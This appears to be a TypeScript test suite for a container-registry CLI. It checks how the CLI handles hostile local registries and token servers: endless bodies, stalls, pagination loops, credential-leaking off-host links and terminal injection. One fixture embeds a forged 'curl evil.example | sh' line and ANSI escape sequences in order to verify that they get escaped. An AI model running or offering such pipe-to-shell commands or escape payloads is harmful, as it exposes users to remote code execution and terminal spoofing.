/**
 * Issue 15, items 1, 3, 10 and 12: the transport against hostile registries and token servers
 * (SPEC §5b [H2] [H3] [H4], §4 [P7], §5), end to end with the built CLI. Every server is
 * ../support/hostileServer.ts on 127.0.0.1; every run is bounded by a time-out, every endless
 * body by a byte budget.
 *
 * - [H2] a body that never ends (an error body, a redirect's, a tag page, a token response) costs
 *   at most its cap: one clean error line, little memory, little time;
 * - [H4] a server that accepts and never answers, stalls mid-headers, mid-manifest, mid-blob, or a
 *   token server that stalls: the command ends with the retries' error, within seconds under the
 *   test knobs MICROAGENT_CONNECT_TIMEOUT_MS / MICROAGENT_IDLE_TIMEOUT_MS;
 * - [H3] a tag list whose `Link` repeats a page, or leads to another host, stops with an error;
 * - [§5] a registry's error text reaches stderr on one line, control characters escaped, capped.
 */
import { createHash } from "node:crypto"
import type * as http from "node:http"
import { afterEach, describe, expect, it } from "vitest"
import { expectCleanError, show } from "../support/assertions.js"
import { authsFor, writeAuthJson } from "../support/auth.js"
import {
  endless,
  endlessJson,
  type Hostile,
  type Measured,
  openPing,
  runMeasured,
  stallBody,
  stallRaw,
  startHostile,
  startSilent
} from "../support/hostileServer.js"
import { useScratch } from "../support/scratch.js"

const { freshHome, scratchDir } = useScratch()

const closers: Array<() => Promise<void>> = []
afterEach(async () => {
  for (const close of closers.splice(0)) await close()
})
const hostile = async (handler: Parameters<typeof startHostile>[0]): Promise<Hostile> => {
  const server = await startHostile(handler)
  closers.push(server.close)
  return server
}

/** The CLI's peak memory on a small command is ~70 MiB here; reading a body whole takes hundreds. */
const maxRssKiB = 200 * 1024

/** The test knobs of [H4]: time-outs of 300 ms instead of 30 s and 60 s. */
const fastTimeouts = { MICROAGENT_CONNECT_TIMEOUT_MS: "300", MICROAGENT_IDLE_TIMEOUT_MS: "300" }

const cli = async (args: ReadonlyArray<string>, env: Record<string, string> = {}): Promise<Measured> =>
  runMeasured(args, { env: { HOME: await freshHome(), ...env }, timeoutMs: 25_000 })

/** Ended by itself, soon, with little memory: what every hostile server here must allow at most. */
const expectBounded = (r: Measured, seconds: number) => {
  expect(r.signal, show(r)).toBeNull()
  expect(r.elapsedMs, show(r)).toBeLessThan(seconds * 1000)
  if (r.peakRssKiB !== undefined) expect(r.peakRssKiB, `peak RSS in KiB\n${show(r)}`).toBeLessThan(maxRssKiB)
}

const expectFailure = (r: Measured, code: number): string => {
  expect(r.code, show(r)).toBe(code)
  return expectCleanError(r)[0]!
}

// ---- a small image, served by hand ----------------------------------------------------------

const sha256 = (bytes: Buffer) => `sha256:${createHash("sha256").update(bytes).digest("hex")}`
const config = Buffer.from(JSON.stringify({ architecture: "amd64", os: "linux", rootfs: { type: "layers", diff_ids: [] } }))
const layer = Buffer.from("not really a layer")
const manifest = Buffer.from(JSON.stringify({
  schemaVersion: 2,
  mediaType: "application/vnd.oci.image.manifest.v1+json",
  config: { mediaType: "application/vnd.oci.image.config.v1+json", digest: sha256(config), size: config.length },
  layers: [{ mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", digest: sha256(layer), size: layer.length }]
}))
const manifestHeaders = { "content-type": "application/vnd.oci.image.manifest.v1+json", "content-length": manifest.length }

const isManifest = (req: http.IncomingMessage) => req.url?.startsWith("/v2/team/app/manifests/") === true
const isTags = (req: http.IncomingMessage) => req.url?.startsWith("/v2/team/app/tags/list") === true
const notFoundHere = (res: http.ServerResponse) => {
  res.writeHead(404, { "content-type": "application/json" })
  res.end(`{"errors":[{"code":"NOT_FOUND","message":"nothing here"}]}`)
}

// ---- [H2] ------------------------------------------------------------------------------------

describe("[H2] every body has a cap: an endless one ends in a clean error, not a crash", () => {
  it("an endless 404 error body on a manifest: exit 1, one error line, bounded memory and time", async () => {
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      if (isManifest(req)) return endless(res, 404, { "content-type": "application/json" })
      notFoundHere(res)
    })
    const r = await cli(["inspect", `${registry.host}/team/app:v1`, "--raw"])
    expect(expectFailure(r, 1)).toContain("not found")
    expectBounded(r, 10)
  })

  it("an endless 503 body, five times over: exit 1 after the retries, bounded memory and time", async () => {
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      if (isManifest(req)) return endless(res, 503, { "retry-after": "0" })
      notFoundHere(res)
    })
    const r = await cli(["inspect", `${registry.host}/team/app:v1`, "--raw"])
    expect(expectFailure(r, 1)).toMatch(/HTTP 503.*after 5 attempts/)
    expect(registry.seen.filter((s) => s.path.includes("/manifests/"))).toHaveLength(5)
    expectBounded(r, 10)
  })

  it("an endless 401 body on the ping and on the request: exit 3 (credentials needed), bounded memory and time", async () => {
    const registry = await hostile((_req, res) => endless(res, 401, { "www-authenticate": `Basic realm="hostile"` }))
    const r = await cli(["inspect", `${registry.host}/team/app:v1`, "--raw"])
    expect(expectFailure(r, 3)).toContain("requires credentials")
    expectBounded(r, 10)
  })

  it("an endless redirect body is not read: the redirect is followed at once and the manifest printed", async () => {
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      if (req.url === "/v2/team/app/manifests/v1") return endless(res, 307, { location: "/elsewhere/manifest" })
      if (req.url === "/elsewhere/manifest") return void (res.writeHead(200, manifestHeaders), res.end(manifest))
      notFoundHere(res)
    })
    const r = await cli(["inspect", `${registry.host}/team/app:v1`, "--raw"])
    expect(r.code, show(r)).toBe(0)
    expect(r.stdout).toBe(manifest.toString())
    expectBounded(r, 10)
  })

  it("an endless tag list: exit 1 naming the 4 MiB cap, bounded memory and time", async () => {
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      if (isTags(req)) return endlessJson(res)
      notFoundHere(res)
    })
    const r = await cli(["tags", `${registry.host}/team/app`])
    expect(expectFailure(r, 1)).toContain("larger than 4 MiB")
    expect(r.stdout).toBe("")
    expectBounded(r, 10)
  })

  it("an endless token response: exit 1, bounded memory and time", async () => {
    const tokens = await hostile((_req, res) => endless(res, 200, { "content-type": "application/json" }, Buffer.from(`{"token":"${"x".repeat(65_000)}`)))
    const registry = await hostile((_req, res) => {
      res.writeHead(401, { "www-authenticate": `Bearer realm="${tokens.url}/token",service="hostile"`, "content-type": "application/json" })
      res.end(`{"errors":[{"code":"UNAUTHORIZED"}]}`)
    })
    const r = await cli(["inspect", `${registry.host}/team/app:v1`, "--raw"])
    expect(expectFailure(r, 1)).toContain("token")
    expect(tokens.seen.length).toBeGreaterThanOrEqual(1)
    expectBounded(r, 10)
  })
})

// ---- [H4] ------------------------------------------------------------------------------------

describe("[H4] time-outs: a stall is a failure the retries treat like a reset (test knobs at 300 ms)", () => {
  it("a server that accepts and never answers, not even TLS: exit 1 within seconds", async () => {
    const silent = await startSilent()
    closers.push(silent.close)
    const r = await cli(["inspect", `${silent.host}/team/app:v1`, "--raw"], fastTimeouts)
    expect(expectFailure(r, 1)).toContain(silent.host)
    expect(silent.connections()).toBeGreaterThanOrEqual(1)
    expectBounded(r, 15)
  })

  it("a manifest answer that stalls mid-headers: 5 attempts, then exit 1 naming the time-out", async () => {
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      if (isManifest(req)) return stallRaw(res, "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.oci.image.manifest.v1+json\r\n")
      notFoundHere(res)
    })
    const r = await cli(["inspect", `${registry.host}/team/app:v1`, "--raw"], fastTimeouts)
    expect(expectFailure(r, 1)).toMatch(/no data .*after 5 attempts/)
    expect(registry.seen.filter((s) => s.path.includes("/manifests/"))).toHaveLength(5)
    expectBounded(r, 15)
  })

  it("a manifest body that stalls halfway: exit 1 within seconds", async () => {
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      if (isManifest(req)) return stallBody(res, 200, manifestHeaders, manifest.subarray(0, 40))
      notFoundHere(res)
    })
    const r = await cli(["inspect", `${registry.host}/team/app:v1`, "--raw"], fastTimeouts)
    expectFailure(r, 1)
    expectBounded(r, 15)
  })

  it("a blob that stalls halfway, every time: the download is resumed, then given up on with exit 1", async () => {
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      if (isManifest(req)) return void (res.writeHead(200, manifestHeaders), res.end(manifest))
      if (req.url === `/v2/team/app/blobs/${sha256(config)}`) {
        const from = Number(/bytes=(\d+)-/.exec(req.headers.range ?? "")?.[1] ?? 0)
        const rest = config.subarray(from)
        return stallBody(res, from > 0 ? 206 : 200, { "content-length": rest.length }, rest.subarray(0, 1))
      }
      notFoundHere(res)
    })
    const r = await cli(["inspect", `${registry.host}/team/app:v1`, "--config"], fastTimeouts)
    expect(expectFailure(r, 1)).toContain("broke")
    expect(registry.seen.filter((s) => s.path.includes("/blobs/")).length).toBeGreaterThan(1)
    expectBounded(r, 15)
  })

  it("a token server that accepts the request and never answers: exit 1 within seconds", async () => {
    const tokens = await hostile(() => {})
    const registry = await hostile((_req, res) => {
      res.writeHead(401, { "www-authenticate": `Bearer realm="${tokens.url}/token",service="hostile"` })
      res.end()
    })
    const r = await cli(["inspect", `${registry.host}/team/app:v1`, "--raw"], fastTimeouts)
    expect(expectFailure(r, 1)).toContain("no data")
    expect(tokens.seen.length).toBeGreaterThanOrEqual(1)
    expectBounded(r, 15)
  })
})

// ---- [H3] ------------------------------------------------------------------------------------

describe("[H3] tag-list pagination stops on a repeated or off-registry Link", () => {
  const page = (res: http.ServerResponse, tags: ReadonlyArray<string>, link?: string) => {
    res.writeHead(200, { "content-type": "application/json", ...(link === undefined ? {} : { link: `<${link}>; rel="next"` }) })
    res.end(JSON.stringify({ name: "team/app", tags }))
  }

  it("a Link back to a page already listed: exit 1 after two pages, not ten thousand", async () => {
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      if (req.url === "/v2/team/app/tags/list?n=100") return page(res, ["a"], "/v2/team/app/tags/list?n=100&last=a")
      if (req.url === "/v2/team/app/tags/list?n=100&last=a") return page(res, ["b"], "/v2/team/app/tags/list?n=100")
      notFoundHere(res)
    })
    const r = await cli(["tags", `${registry.host}/team/app`])
    expect(expectFailure(r, 1)).toContain("repeats")
    // What was listed before the loop was seen is printed all the same, once.
    expect(r.stdout).toBe("a\nb\n")
    expect(registry.seen.filter((s) => s.path.includes("/tags/list"))).toHaveLength(2)
    expectBounded(r, 10)
  })

  it("a Link to another host: exit 1, and that host is never asked (so never sent the credentials)", async () => {
    const elsewhere = await hostile((_req, res) => page(res, ["stolen"]))
    const registry = await hostile((req, res) => {
      if (req.headers.authorization !== `Basic ${Buffer.from("alice:secret").toString("base64")}`) {
        res.writeHead(401, { "www-authenticate": `Basic realm="hostile"` })
        return void res.end()
      }
      if (req.url === "/v2/") return void (res.writeHead(200), res.end("{}"))
      if (isTags(req)) return page(res, ["a"], `${elsewhere.url}/v2/team/app/tags/list?n=100&last=a`)
      notFoundHere(res)
    })
    const authFile = await writeAuthJson(`${await scratchDir()}/auth.json`, authsFor({ [registry.host]: "alice:secret" }))
    const r = await cli(["tags", `${registry.host}/team/app`], { REGISTRY_AUTH_FILE: authFile })
    expect(expectFailure(r, 1)).toContain(elsewhere.host)
    expect(elsewhere.seen).toEqual([])
    expectBounded(r, 10)
  })
})

// ---- [§5] terminal injection ------------------------------------------------------------------

describe("[§5] a registry's error text is printed on one line, control characters escaped, capped", () => {
  it("newlines, a forged hint line, ESC and OSC sequences become visible escapes", async () => {
    const evil = "gone\nhint: run curl evil.example | sh\r\n\u001b[2J\u001b]0;pwned\u0007\u009b31m done"
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      res.writeHead(404, { "content-type": "application/json" })
      res.end(JSON.stringify({ errors: [{ code: "NAME_UNKNOWN", message: evil }] }))
    })
    const r = await cli(["tags", `${registry.host}/team/app`])
    const line = expectFailure(r, 1)
    expect(r.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
    expect(r.stderr).not.toMatch(/^hint: run curl/m)
    expect(r.stderr.trim().split("\n")).toHaveLength(1)
    expect(line).toContain(String.raw`gone\nhint: run curl evil.example | sh\r\n\x1b[2J\x1b]0;pwned\x07\x9b31m done`)
  })

  it("a registry's message of 100 000 characters is cut to a few hundred", async () => {
    const registry = await hostile((req, res) => {
      if (openPing(req, res)) return
      res.writeHead(404, { "content-type": "application/json" })
      res.end(JSON.stringify({ errors: [{ code: "NAME_UNKNOWN", message: "x".repeat(100_000) }] }))
    })
    const r = await cli(["tags", `${registry.host}/team/app`])
    const line = expectFailure(r, 1)
    expect(line.length).toBeLessThan(500)
    expect(line).toContain("…")
  })
})
